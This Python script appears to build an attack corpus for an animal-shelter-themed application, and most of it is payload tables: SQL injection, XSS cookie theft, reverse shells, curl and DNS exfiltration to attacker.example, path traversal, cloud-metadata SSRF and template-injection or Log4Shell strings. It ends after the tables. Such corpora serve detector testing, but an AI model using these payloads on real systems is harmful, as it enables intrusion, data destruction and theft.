#!/usr/bin/env python3
"""Attack corpus for the animalshelter theme. Standard library only.
Literal lines are 'class ⟫ value' (the token ' ¶ ' stands for a newline, ' ⇥ ' for a TAB, '␍␊' for CR LF, '␍' for CR).
A small set of templated values joins hand-written shelter prefixes to hand-written payloads,
or applies one hand-chosen encoding."""
import json
import os
import random
from urllib.parse import quote

SEED = 17502
PREFIX = "hafj"


def L(block):
    out = []
    for ln in block.strip("\n").split("\n"):
        ln = ln.strip()
        if not ln:
            continue
        cls, val = ln.split(" ⟫ ", 1)
        out.append((cls.strip(), val.replace(" ¶ ", "\n").replace(" ⇥ ", "\t").replace("␍␊", "\r\n").replace("␍", "\r")))
    return out


LIT = {}

LIT["sqli"] = L("""
note-union-select ⟫ Biscuit' UNION SELECT username,password_hash FROM staff_users--
note-union-select ⟫ Kennel 14B' UNION ALL SELECT NULL,email,phone,NULL FROM adopters-- -
note-union-select ⟫ lab mix') UNION SELECT table_name,NULL FROM information_schema.tables#
search-union-select ⟫ husky" union select 1,group_concat(column_name),3 from information_schema.columns where table_name='donors'-- -
id-union-number ⟫ 49213 UNION SELECT card_number,cvv FROM donations
id-union-number ⟫ -1 union all select 1,@@version,3,4
plain-boolean ⟫ ' OR '1'='1
plain-boolean ⟫ ' or 1=1-- -
plain-boolean ⟫ admin'--
name-boolean ⟫ O'Brien' OR 'x'='x
name-boolean ⟫ Luna' OR 1=1 LIMIT 1 OFFSET 2-- 
id-boolean-number ⟫ 49213 OR 1=1
id-boolean-number ⟫ 49213) OR (1=1
search-boolean ⟫ senior cats' AND 1=0 UNION SELECT api_key,NULL FROM integrations WHERE 'a'='a
mysql-sleep ⟫ Biscuit' AND SLEEP(5)-- -
mysql-sleep ⟫ 49213 AND (SELECT 1 FROM (SELECT SLEEP(7))x)
mysql-benchmark ⟫ Rex' OR BENCHMARK(5000000,MD5('dog'))#
mysql-if-sleep ⟫ tabby' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(4),0)-- x
pg-sleep ⟫ microchip 985112'; SELECT pg_sleep(6)--
pg-sleep ⟫ A0049213' || (SELECT pg_sleep(5))::text || '
mssql-waitfor ⟫ shift swap'; WAITFOR DELAY '0:0:5'--
mssql-waitfor ⟫ 14; IF (SELECT COUNT(*) FROM sysobjects)>0 WAITFOR DELAY '00:00:06'--
oracle-dbms-pipe ⟫ Duke' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',5)--
sqlite-randomblob ⟫ Pepper' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--
mysql-error-extractvalue ⟫ Mochi' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT password FROM staff_users LIMIT 1)))-- -
mysql-error-updatexml ⟫ 49213 and updatexml(1,concat(0x3a,user()),1)
mssql-error-convert ⟫ Thor' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--
pg-error-cast ⟫ Rosie' AND 1=CAST((SELECT current_user) AS int)--
oracle-error-ctxsys ⟫ Nala' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--
stacked-drop ⟫ Kennel note'; DROP TABLE animals;--
stacked-update ⟫ fee waived'; UPDATE adoptions SET fee=0, status='approved' WHERE 1=1;--
stacked-insert ⟫ Foster'); INSERT INTO staff_users(login,role) VALUES('attacker','admin');--
mssql-xp-cmdshell ⟫ transfer'; EXEC master..xp_cmdshell 'ping 203.0.113.7';--
mssql-xp-dirtree ⟫ '; exec master.dbo.xp_dirtree '\\\\attacker.example\\share';--
pg-copy-program ⟫ '; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--
mysql-into-outfile ⟫ ' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/kennel.php'-- -
mysql-load-file ⟫ 0 UNION SELECT LOAD_FILE('/etc/passwd'),2
oracle-utl-http ⟫ ' AND UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) IS NOT NULL--
mysql-oob-unc ⟫ ' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT database()),'.attacker.example\\\\a'))-- -
orderby-injection ⟫ intake_date,(CASE WHEN (SELECT substr(password,1,1) FROM staff_users LIMIT 1)='a' THEN name ELSE species END)
orderby-injection ⟫ name ASC, IF((SELECT COUNT(*) FROM staff_users)>3,SLEEP(3),1)
orderby-number ⟫ 3 desc, (select 1 from pg_sleep(4))
limit-injection ⟫ 10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)
comment-as-space ⟫ Biscuit'/**/UNION/**/SELECT/**/login,pass/**/FROM/**/staff_users#
comment-as-space ⟫ 49213/**/or/**/1/**/=/**/1
mysql-versioned-comment ⟫ Luna' /*!50000UNION*/ /*!50000SELECT*/ 1,2,user()-- -
case-mixing ⟫ dUkE' uNiOn SeLeCt nUlL,PaSsWoRd FrOm StAfF_uSeRs-- -
no-space-parens ⟫ '||(select(password)from(staff_users)limit(1))||'
no-space-parens ⟫ 1'and(select(1)from(select(sleep(5)))a)and'1
tab-newline-space ⟫ Pepper' ⇥ UNION ⇥ SELECT ⇥ email,2 ⇥ FROM ⇥ adopters--
hex-string ⟫ 1 UNION SELECT 1,0x3c3f7068702073797374656d28245f4745545b635d293b203f3e INTO DUMPFILE '/var/www/x.php'
char-concat ⟫ ' UNION SELECT CHAR(97,100,109,105,110),2-- -
scientific-notation ⟫ 1e0union select 1,2,3-- -
json-operator-bypass ⟫ ' OR JSON_EXTRACT('{"a":1}','$.a')=1-- -
pg-dollar-quote ⟫ '; SELECT $$x$$ FROM pg_sleep(5)--
sqlite-schema ⟫ ' UNION SELECT sql,NULL FROM sqlite_master--
mssql-openrowset ⟫ '; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','select 1')--
like-wildcard-bool ⟫ %' AND (SELECT COUNT(*) FROM staff_users WHERE password LIKE 'a%')>0 AND '%'='
chip-lookup-union ⟫ chip: 985112003456789' UNION SELECT owner_name,owner_address FROM microchips-- -
manifest-csv-inline ⟫ A0049213;Biscuit;Dog' OR '1'='1' -- ;M;3
donor-note-stacked ⟫ In memory of Bella'); DELETE FROM donations WHERE ('1'='1
lostfound-boolean-blind ⟫ Cheeto' AND ASCII(SUBSTRING((SELECT password FROM staff_users LIMIT 1),1,1))>64 AND 'a'='a
vax-date-injection ⟫ 2024-03-02' AND 1=(SELECT 1 FROM pg_sleep(5))::int--
weight-number-injection ⟫ 23.4 OR 1=1
sort-param-injection ⟫ length_of_stay DESC; DROP TABLE kennels--
foster-email-sqli ⟫ foster@example.org' UNION SELECT token,1 FROM password_resets-- -
kennel-card-heredoc ⟫ Name: Reggie ¶ Notes: ' UNION SELECT pass FROM staff_users --
mssql-declare-exec ⟫ '; DECLARE @q VARCHAR(99);SET @q=0x77616974666f722064656c61792027303a303a3527;EXEC(@q)--
oracle-union-dual ⟫ Ziggy' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--
having-group-error ⟫ ' GROUP BY id HAVING 1=1--
pg-stacked-create-role ⟫ '; CREATE ROLE attacker LOGIN SUPERUSER PASSWORD 'x';--
information-schema-probe ⟫ Clover' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -
mysql-hash-comment ⟫ Bear'#
double-quote-context ⟫ Olive" OR "1"="1
backslash-escape-eat ⟫ Biscuit\\' OR 1=1-- -
""")

LIT["xss"] = L("""
plain-script ⟫ <script>alert(document.domain)</script>
plain-img-onerror ⟫ <img src=x onerror=alert(1)>
plain-svg-onload ⟫ <svg onload=alert(1)>
kennel-bio-script ⟫ Loves belly rubs! <script>fetch('https://attacker.example/c?'+document.cookie)</script>
kennel-bio-img ⟫ Hi, I'm Luna 🐾 <img src=/kennel.jpg onerror="new Image().src='//attacker.example/?c='+document.cookie">
adopter-name-svg ⟫ Mary-Kate <svg/onload=alert`1`>
donor-message-iframe ⟫ In memory of Bella ❤️ <iframe src="javascript:alert(document.cookie)"></iframe>
lostfound-body-onload ⟫ LOST: orange tabby <body onload=alert('lost')>
foster-chat-details ⟫ can someone cover 2-5? <details open ontoggle=alert(1)>
volunteer-note-video ⟫ shift notes <video><source onerror="alert(1)"></video>
intake-note-audio ⟫ Finder: Zoë <audio src=x onerror=eval(atob('YWxlcnQoMSk='))>
href-javascript ⟫ <a href="javascript:alert(document.cookie)">see flyer</a>
href-javascript-entities ⟫ <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">photo</a>
href-javascript-tab ⟫ <a href="java&#x09;script:alert(1)">adopt me</a>
attr-breakout-dq ⟫ Biscuit" onmouseover="alert(1)" x="
attr-breakout-sq ⟫ Luna' autofocus onfocus='alert(document.domain)
attr-breakout-tag ⟫ "><script>alert(1)</script>
attr-breakout-tag ⟫ Kennel 14B"><img src=x onerror=alert(1)>
js-string-breakout ⟫ ';alert(document.cookie);//
js-string-breakout ⟫ Duke\\";alert(1);//
js-template-literal ⟫ ${alert(document.domain)}
script-close-breakout ⟫ </script><script>alert(1)</script>
textarea-breakout ⟫ </textarea><script>alert(1)</script>
title-breakout ⟫ </title><svg onload=alert(1)>
style-breakout ⟫ </style><img src=x onerror=alert(1)>
case-mixing ⟫ <ScRiPt>alert(1)</sCrIpT>
case-mixing ⟫ <IMG SRC=x OnErRoR=alert(1)>
slash-separator ⟫ <svg/onload=alert(1)//
no-quotes-backtick ⟫ <img src=x onerror=alert`xss`>
entity-encoded-handler ⟫ <img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">
hex-entity-handler ⟫ <img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>
unicode-escape-js ⟫ <script>\\u0061\\u006c\\u0065\\u0072\\u0074(1)</script>
js-fromcharcode ⟫ <script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>
data-uri-iframe ⟫ <iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>
object-data ⟫ <object data="javascript:alert(1)"></object>
embed-src ⟫ <embed src="data:text/html,<script>alert(1)</script>">
svg-animate ⟫ <svg><animate onbegin=alert(1) attributeName=x dur=1s>
svg-use-href ⟫ <svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Adopt</text></a></svg>
svg-script ⟫ <svg><script>alert(1)</script></svg>
math-href ⟫ <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
marquee-onstart ⟫ <marquee onstart=alert(1)>Adopt Biscuit!</marquee>
input-autofocus ⟫ <input autofocus onfocus=alert(1)>
select-autofocus ⟫ <select autofocus onfocus=alert(1)></select>
form-action ⟫ <form action="javascript:alert(1)"><button>Apply</button></form>
button-formaction ⟫ <form><button formaction=javascript:alert(1)>Submit application</button></form>
meta-refresh ⟫ <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
base-href-hijack ⟫ <base href="//attacker.example/">
link-import ⟫ <link rel=stylesheet href="//attacker.example/steal.css">
style-expression-ie ⟫ <div style="width:expression(alert(1))">kennel</div>
style-url-js ⟫ <div style="background:url(javascript:alert(1))">
angular-csti ⟫ {{constructor.constructor('alert(1)')()}}
angular-csti-sandbox ⟫ {{$on.constructor('alert(document.domain)')()}}
vue-csti ⟫ {{_c.constructor('alert(1)')()}}
markdown-link-js ⟫ Check his flyer: [Biscuit's flyer](javascript:alert(document.cookie))
markdown-image-onerror ⟫ ![photo](x" onerror="alert(1))
markdown-html-inline ⟫ **Foster update:** she's eating! <img src=x onerror=alert(1)>
dom-hash-sink ⟫ #<img src=x onerror=alert(1)>
mutation-xss-noscript ⟫ <noscript><p title="</noscript><img src=x onerror=alert(1)>">
mutation-xss-comment ⟫ <!--<img src="--><img src=x onerror=alert(1)//">
iframe-srcdoc ⟫ <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
svg-set-onbegin ⟫ <svg><set attributeName=x onbegin=alert(1)>
fullwidth-brackets ⟫ ＜script＞alert(1)＜/script＞
utf7-legacy ⟫ +ADw-script+AD4-alert(1)+ADw-/script+AD4-
event-onpointer ⟫ <div onpointerover="alert(1)">hover to see Luna</div>
event-onanimation ⟫ <style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">Pumpkin</p>
xlink-href ⟫ <svg><a xlink:href="javascript:alert(1)"><text y=20>flyer</text></a></svg>
onbeforetoggle-popover ⟫ <button popovertarget=p>Adopt</button><div popover id=p onbeforetoggle=alert(1)>x</div>
set-innerhtml-jquery ⟫ <img src=x onerror=$.getScript('//attacker.example/x.js')>
keylogger-script-src ⟫ Kennel card QR <script src=https://attacker.example/k.js></script>
srcset-onerror ⟫ <img srcset=",,,,x" onerror=alert(1)>
table-background ⟫ <table background="javascript:alert(1)"><tr><td>Biscuit</td></tr></table>
html-entity-double ⟫ &lt;script&gt;alert(1)&lt;/script&gt; <img src=x onerror=alert(2)>
""")

LIT["cmdi"] = L("""
plain-semicolon ⟫ ; id
plain-pipe ⟫ | cat /etc/passwd
plain-and ⟫ && whoami
plain-backtick ⟫ `id`
plain-dollar-paren ⟫ $(id)
filename-semicolon ⟫ biscuit_photo.jpg; curl http://attacker.example/s.sh | sh
filename-dollar ⟫ A0049213_$(wget -qO- http://attacker.example/x|sh).pdf
filename-backtick ⟫ intake_`nc 203.0.113.5 4444 -e /bin/sh`.png
ping-host-and ⟫ 10.0.0.5 && cat /etc/shadow
ping-host-or ⟫ vet-printer.local || curl -d @/etc/passwd http://attacker.example/
newline-injection ⟫ kennel14.jpg ¶ id
newline-injection ⟫ A0049213 ¶ /bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1
reverse-shell-bash ⟫ ; bash -c 'bash -i >& /dev/tcp/198.51.100.4/9001 0>&1'
reverse-shell-python ⟫ ; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.8",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")'
reverse-shell-nc-mkfifo ⟫ | rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.4 9001 >/tmp/f
reverse-shell-perl ⟫ ; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.6")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i")'
ifs-space ⟫ ;cat${IFS}/etc/passwd
ifs-space ⟫ Biscuit;curl${IFS}-s${IFS}attacker.example/x|sh
brace-expansion ⟫ ;{cat,/etc/passwd}
quote-splitting ⟫ ;w'h'o'am'i
quote-splitting ⟫ ;c""at /e""tc/pa""sswd
backslash-splitting ⟫ ;/b\\in/c\\at /etc/pas\\swd
wildcard-glob ⟫ ;/???/c?t /???/p?ss??
variable-concat ⟫ ;a=ca;b=t;$a$b /etc/passwd
base64-pipe ⟫ ; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh
hex-printf ⟫ ;$(printf '\\x69\\x64')
tr-obfuscation ⟫ ;$(echo 'vq' | tr 'a-z' 'n-za-m')
command-sub-nested ⟫ `echo $(cat /proc/self/environ)`
dns-exfil ⟫ ; nslookup $(whoami).attacker.example
dns-exfil ⟫ $(dig +short $(hostname).x.attacker.example)
curl-exfil ⟫ ; curl -F 'f=@/var/www/.env' https://attacker.example/up
wget-drop ⟫ & wget http://198.51.100.3/a -O /tmp/a && chmod +x /tmp/a && /tmp/a
sleep-blind ⟫ ; sleep 10 #
sleep-blind ⟫ | sleep 7
ping-timing-blind ⟫ & ping -c 10 127.0.0.1 &
argument-injection-curl ⟫ -o /var/www/html/shell.php http://attacker.example/shell.txt
argument-injection-tar ⟫ --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument-injection-find ⟫ kennel_cards -exec sh -c 'id>/tmp/o' ;
argument-injection-rsync ⟫ -e sh -c 'curl attacker.example|sh' backup/
argument-injection-ssh ⟫ -oProxyCommand=sh -c 'id>/tmp/pwn' vet-nas
argument-injection-git ⟫ --upload-pack=touch /tmp/pwn
argument-injection-zip ⟫ manifest.zip -T -TT 'sh -c id #'
argument-injection-sendmail ⟫ adopter@example.org -OQueueDirectory=/tmp -X/var/www/html/log.php
argument-injection-imagemagick ⟫ |ls -la /var/www
argument-injection-ffmpeg ⟫ -i /etc/passwd -f data out.txt
windows-ampersand ⟫ kennel14.jpg & type C:\\Windows\\win.ini
windows-pipe ⟫ | net user attacker P@ssw0rd /add
windows-cmd-caret ⟫ & w^h^o^a^m^i
windows-cmd-set-substring ⟫ & cmd /v:on /c "set x=whoami&& !x!"
windows-certutil ⟫ & certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe
windows-env-slicing ⟫ & %COMSPEC:~-7,1%%COMSPEC:~-4,1%o
powershell-iex ⟫ ; powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
powershell-encoded ⟫ & powershell -enc dwBoAG8AYQBtAGkA
powershell-subexpr ⟫ $(Invoke-WebRequest -Uri http://attacker.example/?h=$env:COMPUTERNAME)
powershell-invoke-expression ⟫ "; iex (iwr http://203.0.113.2/r.ps1 -UseBasicParsing); "
intake-note-semicolon ⟫ Stray, found at Elm & 3rd; cat /etc/passwd
transfer-manifest-pipe ⟫ Crate 4: Luna (cat) | nc 203.0.113.7 80 < /etc/hosts
volunteer-export-dollar ⟫ ~/exports/$(rm -rf ~/exports)/march.csv
donor-receipt-backtick ⟫ r.kowalski@example.com`curl attacker.example/r`
chip-scan-newline ⟫ 985112003456789%0aid
photo-resize-option ⟫ 800x600 -write /var/www/html/x.php
shellshock-header ⟫ () { :; }; /bin/bash -c 'curl http://attacker.example/ss'
perl-open-pipe ⟫ | /usr/bin/id |
ruby-backtick-open ⟫ |id
php-passthru-arg ⟫ kennel.jpg'; uname -a; echo '
bash-process-substitution ⟫ <(curl -s http://attacker.example/p)
env-ld-preload ⟫ LD_PRELOAD=/tmp/evil.so /usr/bin/convert
crontab-append ⟫ ; echo '* * * * * curl attacker.example|sh' | crontab -
""")

LIT["traversal"] = L("""
plain-dotdot ⟫ ../../../../etc/passwd
plain-dotdot ⟫ ../../../../../../etc/shadow
plain-windows ⟫ ..\\..\\..\\..\\Windows\\win.ini
photo-path-dotdot ⟫ photos/A0049213/../../../../etc/passwd
photo-path-dotdot ⟫ intake/2024/03/../../../../../proc/self/environ
export-path-dotdot ⟫ exports/../../app/config/database.yml
export-path-dotdot ⟫ ~/Documents/shelter/exports/../../../../root/.ssh/id_rsa
kennel-card-template ⟫ templates/kennel_card/../../../../etc/hosts
lab-report-windows ⟫ lab_results\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config
windows-drive ⟫ ..\\..\\..\\..\\..\\..\\boot.ini
absolute-path ⟫ /etc/passwd
absolute-path ⟫ /proc/self/cmdline
absolute-windows ⟫ C:\\Windows\\System32\\drivers\\etc\\hosts
unc-path ⟫ \\\\attacker.example\\share\\kennel.pdf
urlencoded-dotdot ⟫ %2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
urlencoded-slash ⟫ ..%2f..%2f..%2f..%2fetc%2fshadow
double-urlencoded ⟫ %252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
double-urlencoded ⟫ ..%255c..%255c..%255cwindows%255cwin.ini
overlong-utf8 ⟫ ..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
overlong-utf8 ⟫ %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
overlong-utf8-backslash ⟫ ..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini
iis-u-encoding ⟫ ..%u2216..%u2216..%u2216windows%u2216win.ini
iis-u-encoding ⟫ %u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
nested-dotdot-strip ⟫ ....//....//....//....//etc/passwd
nested-dotdot-strip ⟫ ..././..././..././etc/passwd
nested-backslash-strip ⟫ ....\\\\....\\\\....\\\\windows\\\\win.ini
null-byte-extension ⟫ ../../../../etc/passwd%00.jpg
null-byte-extension ⟫ ../../../etc/passwd\\u0000.pdf
mixed-slash ⟫ ..\\/..\\/..\\/etc/passwd
dot-segment-semicolon ⟫ ..;/..;/..;/WEB-INF/web.xml
java-webinf ⟫ /static/../WEB-INF/classes/application.properties
file-scheme ⟫ file:///etc/passwd
file-scheme-windows ⟫ file:///C:/Windows/win.ini
php-wrapper-filter ⟫ php://filter/convert.base64-encode/resource=../config.php
php-wrapper-zip ⟫ zip://uploads/kennel_photos.zip%23shell.php
php-wrapper-phar ⟫ phar://uploads/A0049213.jpg/x.php
env-file ⟫ ../../../.env
git-config ⟫ ../../.git/config
aws-credentials ⟫ ../../../../home/app/.aws/credentials
proc-fd ⟫ ../../../../proc/self/fd/0
fullwidth-dots ⟫ ．．／．．／．．／etc／passwd
unicode-slash ⟫ ..\\u2215..\\u2215..\\u2215etc\\u2215passwd
zip-slip-entry ⟫ ../../../../var/www/html/kennel.php
log-file ⟫ ../../../../var/log/nginx/access.log
lab-pdf-dotdot-encoded-dot ⟫ lab_results/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd
kennel-photo-windows-mixed ⟫ photos\\A0049213\\..\\..\\..\\..\\Users\\Administrator\\.ssh\\id_rsa
import-csv-absolute-etc ⟫ /var/www/shelter/../../../etc/nginx/nginx.conf
""")

LIT["ssrf"] = L("""
plain-metadata ⟫ http://169.254.169.254/latest/meta-data/iam/security-credentials/
plain-localhost ⟫ http://127.0.0.1:8080/admin
photo-url-metadata ⟫ Photo link: http://169.254.169.254/latest/user-data
import-url-metadata ⟫ http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
gcp-metadata-host ⟫ http://metadata.google.internal/computeMetadata/v1/project/project-id
azure-metadata ⟫ http://169.254.169.254/metadata/instance?api-version=2021-02-01
aws-imdsv1-creds ⟫ http://169.254.169.254/latest/meta-data/iam/security-credentials/shelter-app-role
alibaba-metadata ⟫ http://100.100.100.200/latest/meta-data/
decimal-ip ⟫ http://2852039166/latest/meta-data/
hex-ip ⟫ http://0xA9FEA9FE/latest/meta-data/
octal-ip ⟫ http://0251.0376.0251.0376/latest/meta-data/
mixed-ip ⟫ http://0xa9.254.0251.0xfe/latest/meta-data/
short-ip ⟫ http://127.1:6379/
zero-ip ⟫ http://0/server-status
ipv6-loopback ⟫ http://[::1]:8500/v1/agent/self
ipv6-mapped ⟫ http://[::ffff:169.254.169.254]/latest/meta-data/
ipv6-mapped-hex ⟫ http://[::ffff:a9fe:a9fe]/latest/meta-data/
userinfo-confusion ⟫ http://photos.example.com@169.254.169.254/latest/meta-data/
userinfo-confusion ⟫ https://adopt.example.org:443@127.0.0.1:2375/containers/json
fragment-confusion ⟫ http://127.0.0.1:9200#@photos.example.com/
backslash-confusion ⟫ http://photos.example.com\\@10.0.0.12/admin
dns-rebinding-host ⟫ http://169.254.169.254.nip.io/latest/meta-data/
attacker-redirect ⟫ https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
internal-service-name ⟫ http://vet-records.internal:8080/api/export?all=true
internal-service-name ⟫ http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets
rfc1918 ⟫ http://10.0.0.1/cgi-bin/luci
rfc1918 ⟫ http://192.168.1.1/admin/config.bin
rfc1918 ⟫ http://172.16.0.5:5984/_all_dbs
gopher-redis ⟫ gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ASAVE%0D%0A
gopher-smtp ⟫ gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0ARCPT%20TO:<staff@cityshelter.example.org>%0D%0A
dict-scheme ⟫ dict://127.0.0.1:11211/stats
file-scheme ⟫ file:///etc/passwd
file-scheme-windows ⟫ file://C:/Windows/win.ini
ldap-scheme ⟫ ldap://127.0.0.1:389/dc=shelter,dc=local
tftp-scheme ⟫ tftp://198.51.100.2/x
jar-scheme ⟫ jar:http://attacker.example/x.zip!/x.txt
netdoc-scheme ⟫ netdoc:///etc/passwd
docker-socket-api ⟫ http://127.0.0.1:2375/v1.41/containers/create
consul-api ⟫ http://localhost:8500/v1/kv/?recurse
elasticsearch ⟫ http://localhost:9200/_cat/indices
kubelet ⟫ https://10.0.0.10:10250/pods
webhook-url-metadata ⟫ Webhook URL for adoptions: http://169.254.169.254/latest/api/token
lostfound-flyer-url ⟫ Lost dog poster: http://127.0.0.1:8000/internal/flyers?debug=1
transfer-partner-callback ⟫ callback=http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/env
kennel-qr-url ⟫ https://adopt.example.org/pets/../../redirect?url=http://10.1.2.3/
localhost-variant ⟫ http://localhost.:3000/admin
localhost-variant ⟫ http://LocalHost:8080/manager/html
enclosed-alnum ⟫ http://①②⑦.⓪.⓪.①/admin
url-encoded-host ⟫ http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/
""")

LIT["code"] = L("""
jinja2-ssti ⟫ {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
jinja2-ssti ⟫ {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}
jinja2-ssti-config ⟫ Hi {{ config.items() }}
jinja2-ssti-subclasses ⟫ {{ ''.__class__.__mro__[1].__subclasses__() }}
jinja2-ssti-attr ⟫ {{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}
jinja2-ssti-lipsum ⟫ Your adoption of {{ lipsum.__globals__['os'].popen('whoami').read() }} is complete!
twig-ssti ⟫ {{['id']|filter('system')}}
twig-ssti ⟫ {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
twig-ssti-map ⟫ {{ ['cat /etc/passwd']|map('passthru')|join }}
smarty-ssti ⟫ {system('id')}
smarty-ssti-php ⟫ {php}echo `id`;{/php}
freemarker-ssti ⟫ <#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
freemarker-ssti-api ⟫ ${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}
velocity-ssti ⟫ #set($rt=$class.inspect("java.lang.Runtime").type.getRuntime())$rt.exec("id")
velocity-ssti ⟫ #set($x='')#set($c=$x.class.forName('java.lang.Runtime'))$c.getRuntime().exec('touch /tmp/v')
thymeleaf-ssti ⟫ __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
thymeleaf-ssti ⟫ [[${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}]]
erb-ssti ⟫ <%= `id` %>
erb-ssti ⟫ <%= system('cat /etc/passwd') %>
erb-ssti-file ⟫ <%= File.open('/etc/passwd').read %>
slim-haml-ssti ⟫ #{`id`}
ejs-ssti ⟫ <%= global.process.mainModule.require('child_process').execSync('id') %>
pug-ssti ⟫ #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('id')}()}
handlebars-ssti ⟫ {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
nunjucks-ssti ⟫ {{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
mako-ssti ⟫ ${__import__('os').popen('id').read()}
mako-ssti-block ⟫ <% import os; x=os.popen('id').read() %>${x}
tornado-ssti ⟫ {% import os %}{{ os.popen('id').read() }}
django-ssti-settings ⟫ {{ settings.SECRET_KEY }}
go-template-ssti ⟫ {{ .Env.AWS_SECRET_ACCESS_KEY }}
go-template-call ⟫ {{ call .System "id" }}
razor-ssti ⟫ @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
blade-ssti ⟫ {{ system('id') }}
jsp-el ⟫ ${pageContext.request.getSession().getServletContext().getRealPath("/")}
spring-el ⟫ ${T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}
spring-el-hash ⟫ #{T(java.lang.System).getenv()}
spel-processbuilder ⟫ #{new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()}
ognl-struts ⟫ %{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
ognl-struts-context ⟫ ${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().getWriter().println(#a))}
mvel-el ⟫ @{java.lang.Runtime.getRuntime().exec("id")}
log4shell ⟫ ${jndi:ldap://attacker.example:1389/a}
log4shell-nested ⟫ ${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://attacker.example/x}
log4shell-default ⟫ ${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7:1099/o}
log4shell-env-exfil ⟫ ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/z}
log4shell-in-note ⟫ Foster update: Mochi gained 40 g ${jndi:ldaps://attacker.example/m}
python-eval ⟫ __import__('os').system('id')
python-eval ⟫ eval(compile("import os;os.system('id')","x","exec"))
python-exec-b64 ⟫ exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))
node-eval ⟫ require('child_process').exec('curl attacker.example|sh')
node-eval-function ⟫ Function('return process')().mainModule.require('child_process').execSync('id')
php-eval ⟫ system('id');
php-eval ⟫ ${@phpinfo()}
